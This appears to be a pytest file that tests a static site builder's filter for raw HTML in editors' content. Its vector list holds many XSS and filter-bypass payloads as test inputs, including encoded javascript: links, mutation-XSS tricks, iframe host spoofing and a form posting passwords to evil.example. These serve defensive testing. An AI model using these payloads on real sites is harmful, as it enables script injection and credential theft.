"""The raw-HTML policy (docs/content.md, "Raw HTML"; ``checks/html_policy.py``).

HTML that editors write in content may not run code, send the visitor elsewhere, submit
data or load anything from another host: each such thing is one line naming the file and
line, and the build, ``check`` and the preview refuse the page. Links out and embeds from
the hosts in ``embed_hosts`` (site.yaml) pass, and the Content-Security-Policy lets exactly
those hosts into frames.
"""

from __future__ import annotations

import os

import pytest
from conftest import REPO, make_mini_site, read_tree, run_process, write_tree
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_bad_input import ERROR_LINE, assert_failed_cleanly

from site_builder.checks.html_policy import Policy, violations
from site_builder.config import parse_config
from site_builder.errors import SiteErrors, format_error

CODE = "runs code"
NAVIGATION = "sends the visitor elsewhere"
SUBMISSION = "submits data"
LOAD = "loads from another host"
STYLE_LOAD = "loads files from a style attribute"
ADDRESS = "uses an address the site does not allow"
NOT_ALLOWED = "is not allowed"
UNFINISHED = "is not finished"
STRUCTURE = "breaks the page's structure"
HINTS = {
    CODE: "write content in Markdown; scripts belong in templates/ and assets/",
    NAVIGATION: 'link to the page with <a href="…"> instead',
    SUBMISSION: 'forms belong in templates/; link to a form elsewhere with <a href="…">',
    LOAD: "put the file in assets/ and write /assets/ before its name",
    STYLE_LOAD: "show an image with ![what it shows](/assets/…); styles belong in assets/",
    ADDRESS: "links may use https:, http:, mailto: and tel:; files go in assets/",
    NOT_ALLOWED: "docs/content.md, 'Raw HTML', lists what is allowed",
    UNFINISHED: "end every tag with >, and write &lt; for a < that is text",
    STRUCTURE: "close each element you open, in the order you opened it: <div> … </div>",
}
EMBED = "embed only https:// pages of a host listed under embed_hosts in site.yaml"
DRAWING = "save the drawing as an .svg file in assets/ and show it with ![what it shows](/assets/…)"
EMPTY_IFRAME = "leave an iframe empty: <iframe …></iframe>"


def close_hint(tag: str) -> str:
    return f"close each element you open, in the order you opened it: <{tag}> … </{tag}>"


def stray_hint(tag: str) -> str:
    return f"delete </{tag}>: no <{tag}> is open here"


def paragraph_hint(tag: str) -> str:
    return (
        f"a paragraph cannot hold <{tag}>: end the paragraph before it, "
        "or begin it on a line of its own after a blank line"
    )


LINK_IN_LINK = "a link cannot hold another link: end the first with </a> before the next <a>"
IN_CELL = "in a table, put text and other elements inside a cell: <td> … </td>"
TABLE_PARTS = "write a table's parts in their places: <table><tr><td> … </td></tr></table>"
CARRIAGE_RETURN = "it names a carriage return, which HTML reads as a mistake: break the line instead"


class Linked(str):
    """The address of a link or image that Markdown wrote, as the editor wrote it: the error names
    it, not the tag the editor never saw."""


VIDEO_HOST = "www.youtube-nocookie.com"
SIZE = 'alt="X" width="8" height="8"'
# An image the build leaves as written (with loading given, it adds nothing), unquoted so
# that it can stand inside a quoted attribute.
HIDDEN_IMAGE = "<img src=x alt=X width=8 height=8 loading=lazy onerror=alert(1)>"

# (what it tries, the page's Markdown, [(line in the Markdown, kind, what the message names,
# hint if not the kind's own)]). Each is a page of its own: what one page holds cannot hide
# what another holds.
VECTORS: list[tuple[str, str, list[tuple]]] = [
    # --- code --------------------------------------------------------------------------
    ("a script", "<script>alert(1)</script>\n", [(1, CODE, "<script")]),
    (
        "a script from another host, in mixed case",
        '<ScRiPt SRC="https://evil.example/x.js"></sCrIpT>\n',
        [(1, CODE, "<script")],
    ),
    ("an event handler", '<p onclick="alert(1)">Hi</p>\n', [(1, CODE, "onclick=")]),
    (
        "an event handler after a slash, in upper case, unquoted",
        "<p/ONMOUSEOVER=alert(1)>Hi</p>\n",
        # Markdown does not take the tag for a block's start, and puts it in a paragraph.
        [(1, CODE, "onmouseover="), (1, STRUCTURE, "<p/ONMOUSEOVER=alert(1)>", paragraph_hint("p"))],
    ),
    (
        "an event handler on an allowed element",
        '<details open ontoggle="alert(1)"><summary>More</summary></details>\n',
        [(1, CODE, "ontoggle=")],
    ),
    (
        "an event handler from a Markdown attribute list",
        'Hello\n{: onclick="alert(1)" }\n',
        [(2, CODE, "onclick=")],
    ),
    ("javascript: in mixed case", '<a href="JaVaScRiPt:alert(1)">x</a>\n', [(1, CODE, 'href="javascript:')]),
    (
        "javascript: with a decimal character reference",
        '<a href="&#106;avascript:alert(1)">x</a>\n',
        [(1, CODE, 'href="javascript:')],
    ),
    (
        "javascript: with hexadecimal and named references",
        '<a href="&#x6A;avascript&colon;alert(1)">x</a>\n',
        [(1, CODE, 'href="javascript:')],
    ),
    (
        "javascript: split by a tab written as a reference",
        '<a href="java&#x09;script:alert(1)">x</a>\n',
        [(1, CODE, 'href="javascript:')],
    ),
    (
        "javascript: split by a line break",
        '<a href="java\nscript:alert(1)">x</a>\n',
        [(1, CODE, 'href="javascript:')],
    ),
    (
        "javascript: after spaces and line breaks",
        '<a href="&#x20;&#x0A;&#x0D; javascript:alert(1)">x</a>\n',
        [(1, CODE, 'href="javascript:'), (1, NOT_ALLOWED, "&#x0D;", CARRIAGE_RETURN)],
    ),
    ("javascript: unquoted", "<a href=javascript:alert(1)>x</a>\n", [(1, CODE, 'href="javascript:')]),
    ("vbscript:", '<a href="vbscript:msgbox(1)">x</a>\n', [(1, CODE, 'href="vbscript:')]),
    (
        "javascript: in a Markdown link",
        "Intro.\n\n[x](JavaScript:alert(1))\n",
        [(3, CODE, Linked("JavaScript:alert(1)"))],
    ),
    (
        "javascript: in a quotation's source",
        '<blockquote cite="javascript:alert(1)">Q</blockquote>\n',
        [(1, CODE, 'cite="javascript:')],
    ),
    (
        "a page written into an iframe (srcdoc)",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>\n',
        [(1, CODE, "srcdoc=")],
    ),
    ("an object", '<object data="https://evil.example/x.swf"></object>\n', [(1, CODE, "<object")]),
    ("an embed", '<embed src="https://evil.example/x.swf">\n', [(1, CODE, "<embed")]),
    ("an applet", '<applet code="X.class"></applet>\n', [(1, CODE, "<applet")]),
    (
        "a script in SVG",
        "<svg><script>alert(1)</script></svg>\n",
        [(1, NOT_ALLOWED, "<svg", DRAWING), (1, CODE, "<script")],
    ),
    (
        "an SVG link's xlink:href",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>\n',
        [(1, NOT_ALLOWED, "<svg", DRAWING), (1, CODE, 'xlink:href="javascript:')],
    ),
    (
        "an SVG image from another host",
        '<svg><image href="https://evil.example/x.png"/></svg>\n',
        [(1, NOT_ALLOWED, "<svg", DRAWING)],
    ),
    (
        "MathML, whose content a browser reads by other rules",
        f"<math><mtext><table><mglyph><style>{HIDDEN_IMAGE}</style></mglyph></table></mtext></math>\n",
        [(1, NOT_ALLOWED, "<math", DRAWING)],
    ),
    (
        "a style with expression()",
        '<p style="width: expression(alert(1))">x</p>\n',
        [(1, CODE, 'style="…expression(')],
    ),
    ("a style with behavior", '<p style="behavior: url(x.htc)">x</p>\n', [(1, CODE, 'style="…behavior:')]),
    # --- sending the visitor elsewhere, submitting data ----------------------------------
    (
        "a meta refresh",
        '<meta http-equiv="Refresh" content="0; url=https://evil.example/">\n',
        [(1, NAVIGATION, '<meta http-equiv="refresh"')],
    ),
    ("a base address", '<base href="https://evil.example/">\n', [(1, NAVIGATION, "<base")]),
    (
        "a form with a password field",
        '<form action="https://evil.example/login" method="post">\n<input type="password" name="password">\n</form>\n',
        [(1, SUBMISSION, "<form"), (2, SUBMISSION, "<input")],
    ),
    (
        "a button's formaction",
        '<button formaction="https://evil.example/">Send</button>\n',
        [(1, SUBMISSION, "<button")],
    ),
    (
        "formaction on an allowed element",
        '<a href="/en/" formaction="https://evil.example/">x</a>\n',
        [(1, SUBMISSION, "formaction=")],
    ),
    (
        "a link's ping",
        '<a href="https://example.org/" ping="https://evil.example/track">x</a>\n',
        [(1, SUBMISSION, "ping=")],
    ),
    # --- loading from another host -------------------------------------------------------
    (
        "an iframe from a host not listed",
        '<iframe src="https://evil.example/page" title="Page"></iframe>\n',
        [(1, LOAD, '<iframe src="https://evil.example/page"', EMBED)],
    ),
    (
        "an iframe over http from a listed host",
        f'<iframe src="http://{VIDEO_HOST}/embed/x" title="Video"></iframe>\n',
        [(1, LOAD, f'<iframe src="http://{VIDEO_HOST}/embed/x"', EMBED)],
    ),
    (
        "an iframe with the listed host as a user name",
        f'<iframe src="https://{VIDEO_HOST}@evil.example/" title="Video"></iframe>\n',
        [(1, LOAD, f'<iframe src="https://{VIDEO_HOST}@evil.example/"', EMBED)],
    ),
    (
        "an iframe with the listed host after a backslash",
        f'<iframe src="https://evil.example\\@{VIDEO_HOST}/" title="Video"></iframe>\n',
        [(1, LOAD, f'<iframe src="https://evil.example\\@{VIDEO_HOST}/"', EMBED)],
    ),
    (
        "an iframe from a listed host hiding a tag in its content",
        f'<iframe src="https://{VIDEO_HOST}/embed/x" title="Video"><p title="</iframe>{HIDDEN_IMAGE}"></p></iframe>\n',
        [(1, NOT_ALLOWED, "<iframe", EMPTY_IFRAME)],
    ),
    (
        "frames",
        '<frameset><frame src="https://evil.example/"></frameset>\n',
        [(1, LOAD, "<frameset", EMBED), (1, LOAD, "<frame", EMBED)],
    ),
    (
        "a stylesheet from another host",
        '<link rel="stylesheet" href="https://evil.example/x.css">\n',
        [(1, LOAD, '<link href="https://evil.example/x.css"')],
    ),
    (
        "a style with url()",
        '<p style="background: url(https://evil.example/x.png)">x</p>\n',
        [(1, STYLE_LOAD, 'style="…url(')],
    ),
    (
        "a style with url() written with an escape",
        '<p style="background: u\\72 l(https://evil.example/x.png)">x</p>\n',
        [(1, STYLE_LOAD, 'style="…url(')],
    ),
    (
        "an image from another host, in upper case",
        '<IMG SRC="HTTPS://EVIL.EXAMPLE/X.PNG" ALT="X" WIDTH="8" HEIGHT="8">\n',
        [(1, LOAD, '<img src="HTTPS://EVIL.EXAMPLE/X.PNG"')],
    ),
    (
        "an image from another host without a scheme",
        f'<img src="//evil.example/x.png" {SIZE}>\n',
        [(1, LOAD, '<img src="//evil.example/x.png"')],
    ),
    (
        "an image from another host after two backslashes",
        f'<img src="\\\\evil.example/x.png" {SIZE}>\n',
        [(1, LOAD, '<img src="\\\\evil.example/x.png"')],
    ),
    (
        "a srcset entry from another host",
        f'<img srcset="/en/ 1x, https://evil.example/x.png 2x" {SIZE}>\n',
        [(1, LOAD, '<img srcset="https://evil.example/x.png"')],
    ),
    (
        "a video's poster from another host",
        '<video controls poster="https://evil.example/p.png"></video>\n',
        [(1, LOAD, '<video poster="https://evil.example/p.png"')],
    ),
    (
        "a media source from another host",
        '<audio controls><source src="https://evil.example/a.mp3" type="audio/mpeg"></audio>\n',
        [(1, LOAD, '<source src="https://evil.example/a.mp3"')],
    ),
    (
        "a Markdown image from another host",
        'Intro.\n\n![X](https://evil.example/x.png){: width="8" height="8"}\n',
        [(3, LOAD, Linked("https://evil.example/x.png"))],
    ),
    # --- addresses -----------------------------------------------------------------------
    (
        "a data: link",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>\n',
        [(1, ADDRESS, 'href="data:')],
    ),
    (
        "a file: link in Markdown",
        "[passwords](file:///etc/passwd)\n",
        [(1, ADDRESS, Linked("file:///etc/passwd"))],
    ),
    (
        "a data: image",
        f'<img src="data:image/svg+xml;base64,PHN2Zy8+" {SIZE}>\n',
        [(1, ADDRESS, 'src="data:')],
    ),
    # --- what a browser reads otherwise than the parser --------------------------------
    (
        "a comment a browser ends at once",
        f"<!-->{HIDDEN_IMAGE}-->\n",
        [(1, NOT_ALLOWED, "<!--", "end a comment with --> alone")],
    ),
    (
        "a CDATA section, which a browser ends at the first >",
        f"<![CDATA[ > {HIDDEN_IMAGE} ]]>\n",
        [(1, NOT_ALLOWED, "<![CDATA["), (1, CODE, "onerror=")],
    ),
    (
        "noscript, whose content a browser reads as text",
        f'<noscript><p title="</noscript>{HIDDEN_IMAGE}"></p></noscript>\n',
        [(1, NOT_ALLOWED, "<noscript")],
    ),
    (
        "a tag the page's template would finish",
        "<div>\n<p>Intro</p>\n<img src=x alt=X width=8 height=8 onerror=alert(1)\n",
        [(3, UNFINISHED, "<img")],
    ),
    # --- not on the list -----------------------------------------------------------------
    ("an element not on the list", "<marquee>Sale!</marquee>\n", [(1, NOT_ALLOWED, "<marquee")]),
    ("an attribute not on the list", '<p data-track="x">Hi</p>\n', [(1, NOT_ALLOWED, "<p data-track=")]),
    ("a style element", "<style>p { color: red }</style>\n", [(1, NOT_ALLOWED, "<style")]),
    # --- the page's structure ------------------------------------------------------------
    ("a div never closed", '<div class="note">\n\nText.\n', [(1, STRUCTURE, '<div class="note">')]),
    (
        "end tags that would close the template's elements",
        "Intro.\n\n</main></body></html>\n",
        [(3, STRUCTURE, "</main>", stray_hint("main"))],
    ),
    (
        "one end tag too many, among others written alike",
        "<div>\n<div>\nText\n</div>\n</div>\n</div>\n",
        [(6, STRUCTURE, "</div>", stray_hint("div"))],
    ),
    (
        "elements closed in the wrong order",
        "Intro.\n\n<div><span>a</div></span>\n",
        [(3, STRUCTURE, "<span>", close_hint("span"))],
    ),
    (
        "a link inside a link",
        '<a href="/en/">a <a href="https://example.org/">b</a></a>\n',
        [(1, STRUCTURE, '<a href="https://example.org/">', LINK_IN_LINK)],
    ),
    ("a table never closed", "<table>\n<tr><td>a<td>b\n", [(1, STRUCTURE, "<table>", close_hint("table"))]),
    (
        "a span across two paragraphs",
        'Text <span class="x">a\n\nb</span> c\n',
        [(1, STRUCTURE, '<span class="x">', close_hint("span"))],
    ),
    (
        "a block in a paragraph",
        "Intro.\n\nText <div>x</div> more\n",
        [(3, STRUCTURE, "<div>", paragraph_hint("div"))],
    ),
    (
        "an end tag of an element that has none",
        "Line<br>\nnext</br>\n",
        [(2, STRUCTURE, "</br>", "<br> has no end tag: delete </br>")],
    ),
    (
        "a div closed as in XML",
        '<div class="spacer"/>\n\nText.\n',
        [
            (
                1,
                STRUCTURE,
                '<div class="spacer"/>',
                "in HTML, <div/> does not close the element: write <div></div>",
            )
        ],
    ),
    (
        "text in a table outside its cells",
        "<table>\n<tr>Name<td>a</td></tr>\n</table>\n",
        [(2, STRUCTURE, "Name", IN_CELL)],
    ),
    ("a cell outside a table", "<div><td>a</td></div>\n", [(1, STRUCTURE, "<td>", TABLE_PARTS)]),
    (
        "a paragraph's end tag after Markdown's own",
        "First.\n\nSecond.</p>\n",
        [(3, STRUCTURE, "</p>", stray_hint("p"))],
    ),
]

SWOT_TEXT = "text: Researchers struggle to find a home."


def line_of(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def error_line(path: str, line: int, kind: str, what: str, hint: str | None = None) -> str:
    construct = "a link or image" if isinstance(what, Linked) else "raw HTML"
    return f"{path}:{line}: {construct} that {kind} ('{what}') in the content (hint: {hint or HINTS[kind]})"


def add_embed_hosts(root, *hosts: str) -> None:
    with (root / "site.yaml").open("a", encoding="utf-8") as file:
        file.write("embed_hosts:\n" + "".join(f"  - {host}\n" for host in hosts))


def vector_pages() -> tuple[dict[str, str], list[tuple[str, int, str]]]:
    """A page per vector, and each expected line with its sort key (as the build sorts)."""
    pages, expected = {}, []
    for number, (_, body, found) in enumerate(VECTORS, 1):
        path = f"content/en/v{number:02}.md"
        pages[path] = f"---\ntitle: Vector {number}\n---\n" + body  # the body starts on line 4
        for line, kind, what, *hint in found:
            message = error_line(path, line + 3, kind, what, *hint)
            expected.append((path, line + 3, message.split(": ", 1)[1].split(" (hint: ")[0], message))
    return pages, expected


def test_every_vector_is_refused_with_one_line_per_problem_and_the_build_kept(mini_built):
    root, before = mini_built
    add_embed_hosts(root, VIDEO_HOST)  # so that the iframe vectors try to slip past an allowed host
    pages, expected = vector_pages()
    write_tree(root, pages)
    swot = root / "content/en/swot.md"
    text = swot.read_text("utf-8")
    swot.write_text(text.replace(SWOT_TEXT, f"{SWOT_TEXT[:-1]} <script>alert(1)</script>."), "utf-8")
    swot_line = line_of(text, SWOT_TEXT)  # a SWOT text's problems name the line they are on
    expected.append(
        ("content/en/swot.md", swot_line, "", error_line("content/en/swot.md", swot_line, CODE, "<script"))
    )
    lines = [message for *_, message in sorted(expected, key=lambda e: e[:3])]
    result = run_process("-C", root, "build", cwd=root)
    assert_failed_cleanly(root, before, result, lines)
    assert all(ERROR_LINE.fullmatch(line) for line in lines)


def test_each_kind_of_problem_stops_a_build_on_its_own(mini_built, run_cli):
    """One vector per kind in an otherwise valid site: exit 1 without --strict, build/ kept."""
    root, before = mini_built
    kinds: dict[str, tuple[str, list]] = {}
    for _, body, found in VECTORS:
        if len(found) == 1:
            kinds.setdefault(found[0][1], (body, found))
    assert set(kinds) == set(HINTS)
    for kind, (body, found) in kinds.items():
        (root / "content/en/vector.md").write_text(f"---\ntitle: Vector\n---\n{body}", "utf-8")
        line, _, what, *hint = found[0]
        code, out, err = run_cli("-C", root, "-q", "build")
        assert (code, out) == (1, "")
        assert err.splitlines() == [error_line("content/en/vector.md", line + 3, kind, what, *hint)]
        assert read_tree(root / "build") == before


ALLOWED = """\

<table>
<caption>Abbreviations</caption>
<thead><tr><th scope="col">Short</th><th scope="col">In full</th></tr></thead>
<tbody><tr><td>LSH</td><td>Life Sciences &amp; Health</td></tr></tbody>
</table>

The <abbr title="European Medicines Agency">EMA</abbr> came in <time datetime="2019-03">March 2019</time>.

<figure>
<img src="{logo}" alt="The site's logo" width="64" height="64">
<figcaption>The logo, <em>small</em>.</figcaption>
</figure>

![The site's logo](/assets/favicon.svg){{: width="64" height="64"}}

<p>Read <a href="https://www.ema.europa.eu/" rel="noopener" target="_blank">the EMA's site</a>,
<a href="//example.org/">another</a>, <a href="mailto:info@example.org">mail</a>,
<a href="tel:+31200000000">call</a> or see <a href="/en/news/">the news</a>.</p>

<details><summary>More</summary><p><kbd>Ctrl</kbd> <mark>marked</mark> H<sub>2</sub>O x<sup>2</sup>.</p></details>

<blockquote cite="https://www.ema.europa.eu/"><p>A quotation.</p></blockquote>

<div class="note" id="note" lang="nl" title="Note" aria-label="Note">Let op.</div>

<iframe src="https://{host}/embed/abc" title="A video" width="560" height="315"
 allow="autoplay; encrypted-media; picture-in-picture" allowfullscreen loading="lazy"
 referrerpolicy="strict-origin-when-cross-origin" frameborder="0"></iframe>

<!-- a note for the next editor -->

<dl><dt>EMA</dt><dd>European Medicines Agency</dd></dl>

A [link out](https://example.org/) in Markdown.
"""


def test_allowed_html_passes(mini_site, run_cli):
    from site_builder.render.assets import fingerprint, read_assets

    logo = fingerprint(read_assets(mini_site))[0].urls["favicon.svg"]  # a file of the site, as built
    add_embed_hosts(mini_site, VIDEO_HOST)
    about = mini_site / "content/en/about.md"
    about.write_text(about.read_text("utf-8") + ALLOWED.format(logo=logo, host=VIDEO_HOST), "utf-8")
    code, _, err = run_cli("-C", mini_site, "-q", "build", "--no-minify")  # the markup as rendered
    assert (code, err) == (0, "")
    html = (mini_site / "build/en/about/index.html").read_text("utf-8")
    for shown in (
        f'<iframe src="https://{VIDEO_HOST}/embed/abc"',
        '<abbr title="European Medicines Agency">EMA</abbr>',
        '<a href="https://www.ema.europa.eu/" rel="noopener" target="_blank">',
        f'<img decoding="async" src="{logo}"',  # the page's first image: not lazy
        "<figcaption>",
        "<caption>Abbreviations</caption>",
    ):
        assert shown in html, shown
    code, _, err = run_cli("-C", mini_site, "check")
    assert code == 0 and "raw HTML" not in err


def test_pages_the_build_writes_itself_are_not_judged(mini_site, run_cli):
    """The templates' scripts (the root's language script, structured data) and old addresses'
    redirects are the site's own, not content."""
    mou = mini_site / "content/en/news/2019-09-26-mou.md"
    mou.write_text(
        mou.read_text("utf-8").replace("date: 2019-09-26", "date: 2019-09-26\naliases: [/en/mou/]")
    )
    code, _, err = run_cli("-C", mini_site, "-q", "build")
    assert (code, err) == (0, "")
    built = read_tree(mini_site / "build")
    assert b"<script" in built["index.html"]
    assert b"/en/mou/ /en/news/memorandum-of-understanding/ 301" in built["_redirects"]


def csp_lines(root, run_cli) -> tuple[set[str], set[str]]:
    """The Content-Security-Policies in the built _headers and in the nginx configuration: the
    pages' and the search's (see test_search.py)."""
    headers = (root / "build/_headers").read_text("utf-8")
    in_headers = {
        line.split(": ", 1)[1] for line in headers.splitlines() if "Content-Security-Policy:" in line
    }
    code, nginx, _ = run_cli("-C", root, "nginx-config")
    assert code == 0
    in_nginx = {
        line.strip().split('"')[1] for line in nginx.splitlines() if "Content-Security-Policy" in line
    }
    return in_headers, in_nginx


def with_search(policy: str) -> set[str]:
    return {policy, policy.replace("script-src 'self';", "script-src 'self' 'wasm-unsafe-eval';")}


def test_the_csp_lets_exactly_the_embed_hosts_into_frames(mini_site, run_cli):
    from site_builder.output.cdn import CONTENT_SECURITY_POLICY

    assert run_cli("-C", mini_site, "-q", "build")[0] == 0
    assert csp_lines(mini_site, run_cli) == (with_search(CONTENT_SECURITY_POLICY),) * 2
    assert "frame-src" not in CONTENT_SECURITY_POLICY  # frames fall under default-src 'self'

    add_embed_hosts(mini_site, VIDEO_HOST, "player.vimeo.com", "Player.Vimeo.com")
    about = mini_site / "content/en/about.md"
    about.write_text(
        about.read_text("utf-8")
        + '\n<iframe src="https://player.vimeo.com/video/1" title="A video"></iframe>\n'
    )
    assert run_cli("-C", mini_site, "-q", "build")[0] == 0
    expected = f"{CONTENT_SECURITY_POLICY}; frame-src https://player.vimeo.com https://{VIDEO_HOST}"
    assert csp_lines(mini_site, run_cli) == (with_search(expected),) * 2


def test_an_embed_from_a_host_no_longer_listed_is_refused_though_the_page_did_not_change(mini_site, run_cli):
    """The build cache keeps a page's verdict with the policy it was made under."""
    original = (mini_site / "site.yaml").read_text("utf-8")
    add_embed_hosts(mini_site, VIDEO_HOST)
    about = mini_site / "content/en/about.md"
    about.write_text(about.read_text("utf-8") + f'\n<iframe src="https://{VIDEO_HOST}/embed/x"></iframe>\n')
    assert run_cli("-C", mini_site, "-q", "build")[0] == 0
    before = read_tree(mini_site / "build")
    (mini_site / "site.yaml").write_text(original, "utf-8")
    code, _, err = run_cli("-C", mini_site, "build")
    assert code == 1
    assert err.splitlines() == [
        error_line("content/en/about.md", 8, LOAD, f'<iframe src="https://{VIDEO_HOST}/embed/x"', EMBED)
    ]
    assert read_tree(mini_site / "build") == before


def test_check_reports_the_same_lines(mini_site, run_cli):
    about = mini_site / "content/en/about.md"
    about.write_text(
        about.read_text("utf-8") + '\n<img src="https://evil.example/x.png" alt="X" width="8" height="8">\n'
    )
    expected = error_line("content/en/about.md", 8, LOAD, '<img src="https://evil.example/x.png"')
    code, _, err = run_cli("-C", mini_site, "check")
    assert code == 1 and err.splitlines() == [expected]
    code, _, err = run_cli("-C", mini_site, "build")
    assert code == 1 and err.splitlines() == [expected]


@pytest.mark.parametrize(
    ("written", "what", "named"),
    [
        ("A&#1;B", "&#1;", "the control character U+0001"),
        ("&#x7F;", "&#x7F;", "the control character U+007F"),
        ("&#128 is not the euro sign", "&#128;", "the control character U+0080"),
        ("&#0;", "&#0;", "the control character U+0000"),
        ("&#xFFFE;", "&#xFFFE;", "the noncharacter U+FFFE"),
        ("&#xD800;", "&#xD800;", "half of a surrogate pair (U+D800)"),
        ("&#1114112;", "&#1114112;", "no character of Unicode"),
        ('<span title="a&#1;b">x</span>', "&#1;", "the control character U+0001"),
        ("A&#13;B", "&#13;", None),
        ('<span title="a&#x0D;b">x</span>', "&#x0D;", None),
    ],
)
def test_a_reference_to_a_character_no_page_may_hold_is_refused_at_its_line(
    mini_built, run_cli, written, what, named
):
    """Published, the page would hold the character itself (the minifier writes it), which the build
    then refused naming the page in build/ as though a template had put it there. A carriage return
    is no such character, but HTML reads a reference to it as a mistake, and so does the Nu checker
    of the page the preview serves unminified."""
    root, before = mini_built
    about = root / "content/en/about.md"
    text = about.read_text("utf-8")
    about.write_text(
        f"{text}\nAllowed: &#233; &#x2014; &#9; &#10; and `&#1;` or `&#13;` in code.\n\n{written}\n", "utf-8"
    )
    line = len(text.splitlines()) + 4
    hint = f"it names {named}, which no web page may hold: delete it" if named else CARRIAGE_RETURN
    code, out, err = run_cli("-C", root, "-q", "build")
    assert (code, out, err.splitlines()) == (
        1,
        "",
        [error_line("content/en/about.md", line, NOT_ALLOWED, what, hint)],
    )
    assert read_tree(root / "build") == before


@pytest.mark.parametrize(
    ("tag", "kind", "what"),
    [("<script>alert(1)</script>", CODE, "<script"), ('<div class="note">', STRUCTURE, '<div class="note">')],
)
def test_a_problem_is_named_at_its_line_not_at_a_copy_shown_as_code(mini_site, run_cli, tag, kind, what):
    """The same raw HTML shown as code first, in a code span and in a fenced code block, is no tag."""
    about = mini_site / "content/en/about.md"
    shown = f"Write `{tag}`, or:\n\n```\n{tag}\n```\n\n"
    about.write_text(about.read_text("utf-8") + f"\n{shown}{tag}\n\nText.\n")
    code, _, err = run_cli("-C", mini_site, "check")
    assert code == 1 and err.splitlines() == [error_line("content/en/about.md", 14, kind, what)]


def test_the_preview_shows_the_problem_and_follows_site_yaml(tmp_path, caplog):
    from site_builder.serve import Preview

    root = make_mini_site(tmp_path / "site")
    preview = Preview(root, tmp_path / "preview")
    assert preview.poll()
    about = root / "content/en/about.md"
    about.write_text(about.read_text("utf-8") + f'\n<iframe src="https://{VIDEO_HOST}/embed/x"></iframe>\n')
    caplog.clear()
    assert preview.poll()  # the last good pages, with the problem on top
    expected = error_line(
        "content/en/about.md", 8, LOAD, f'<iframe src="https://{VIDEO_HOST}/embed/x"', EMBED
    )
    assert expected in caplog.text
    shown = (preview.out / "en/about/index.html").read_text("utf-8")
    assert "preview-error" in shown and "<iframe" not in shown
    add_embed_hosts(root, VIDEO_HOST)
    assert preview.poll()
    shown = (preview.out / "en/about/index.html").read_text("utf-8")
    assert "preview-error" not in shown and f'<iframe src="https://{VIDEO_HOST}/embed/x">' in shown


# --- the setting ---------------------------------------------------------------------------------


def test_embed_hosts_are_host_names_each_mistake_on_its_line():
    base = (REPO / "site.yaml").read_text("utf-8")
    config = parse_config(base + f"embed_hosts: [{VIDEO_HOST.upper()}, player.vimeo.com, {VIDEO_HOST}]\n")
    assert config.embed_hosts == ("player.vimeo.com", VIDEO_HOST)
    assert parse_config(base).embed_hosts == ()
    first = base.count("\n") + 2
    text = base + (
        f"embed_hosts:\n  - https://{VIDEO_HOST}/embed\n  - player.vimeo.com\n  - 42\n  - '*.example.org'\n"
    )
    with pytest.raises(SiteErrors) as caught:
        parse_config(text)
    hint = "(hint: a host name alone, such as www.youtube-nocookie.com, without https:// or a path)"
    assert [format_error(e) for e in caught.value.errors] == [
        f"site.yaml:{first}: embed_hosts[1] 'https://{VIDEO_HOST}/embed' is not a host name {hint}",
        f"site.yaml:{first + 2}: embed_hosts[3] '42' is not a host name {hint}",
        f"site.yaml:{first + 3}: embed_hosts[4] '*.example.org' is not a host name {hint}",
    ]
    with pytest.raises(SiteErrors) as caught:
        parse_config(base + f"embed_hosts: {VIDEO_HOST}\n")
    assert [format_error(e) for e in caught.value.errors] == [
        (
            f"site.yaml:{first - 1}: embed_hosts is '{VIDEO_HOST}', expected a list "
            "(hint: a list of host names, such as [www.youtube-nocookie.com])"
        )
    ]


def test_a_wrong_embed_host_stops_the_build_and_keeps_it(mini_built):
    root, before = mini_built
    add_embed_hosts(root, f"https://{VIDEO_HOST}")
    line = (root / "site.yaml").read_text("utf-8").count("\n")
    result = run_process("-C", root, "build", cwd=root)
    assert_failed_cleanly(
        root,
        before,
        result,
        [
            (
                f"site.yaml:{line}: embed_hosts[1] 'https://{VIDEO_HOST}' is not a host name "
                "(hint: a host name alone, such as www.youtube-nocookie.com, without https:// or a path)"
            )
        ],
    )


# --- judging Markdown's own HTML without parsing it --------------------------------------------

MARKDOWN_PIECES = [
    "a", " ", "\n", "\n\n", "*", "- ", "# ", "`", "```", "\\", "'", '"', "&amp;", "&#106;",
    "[x](", "![X](", ")", "[r]", "[r]: ", ' "t"', "| a |\n| --- |\n| b |\n",
    "javascript:", "JavaScript:", "java\nscript:", "vbscript:", "data:", "file:", "mailto:a@example.org",
    "https://evil.example/x.png", "//evil.example/", "\\\\evil.example/", "/en/", "x.png",
    "{", "}", "{: ", ".c", "#i", 'width="8"', "height=8", 'onclick="x"', 'title="}"', "src=/x",
]  # fmt: skip


@settings(
    max_examples=int(os.environ.get("HYPOTHESIS_EXAMPLES", "100")),
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(st.lists(st.sampled_from(MARKDOWN_PIECES), max_size=30).map("".join))
def test_markdown_alone_is_judged_as_the_parser_judges_it(markdown):
    """A page whose HTML Markdown wrote alone is judged without the parser: the same verdict."""
    import markdown as python_markdown

    from site_builder.render.markup import markdown_extensions

    html = python_markdown.Markdown(extensions=markdown_extensions(), output_format="html").convert(markdown)
    policy = Policy.of("https://lsh.amsterdam", [VIDEO_HOST])
    assert violations(html, policy, markdown) == violations(html, policy)


HTML_PIECES = [
    "<", ">", "</", "/>", "<!", "<!--", "-->", "--!>", "<![", "]]>", "<?", "<![CDATA[", "<![if ",
    "<!DOCTYPE", "<script>", "</script", "<style>", "<svg>", "<iframe src=https://www.youtube-nocookie.com/x>",
    "</iframe>", "<img ", "<a ", "p", " ", "=", '"', "'", "&", "&#", "&#x", ";", "\x00", "\n", "\t",
    "\x0b", "on", "src", "srcset", "href", "style", "javascript:", "url(", "\\", "é", "\u2028",
]  # fmt: skip


@settings(
    max_examples=int(os.environ.get("HYPOTHESIS_EXAMPLES", "100")) * 5,
    derandomize=True,
    database=None,
    deadline=None,
)
@given(st.lists(st.sampled_from(HTML_PIECES), max_size=40).map("".join))
def test_any_text_gets_a_verdict_in_lines_of_its_own(html):
    """Whatever an editor writes, the check answers with findings, never with an exception,
    and each finding's message and hint fit on one line."""
    for violation in violations(html, Policy.of("https://lsh.amsterdam", [VIDEO_HOST])):
        assert violation.message.isprintable() and violation.hint.isprintable()


# --- the page's structure ----------------------------------------------------------------------

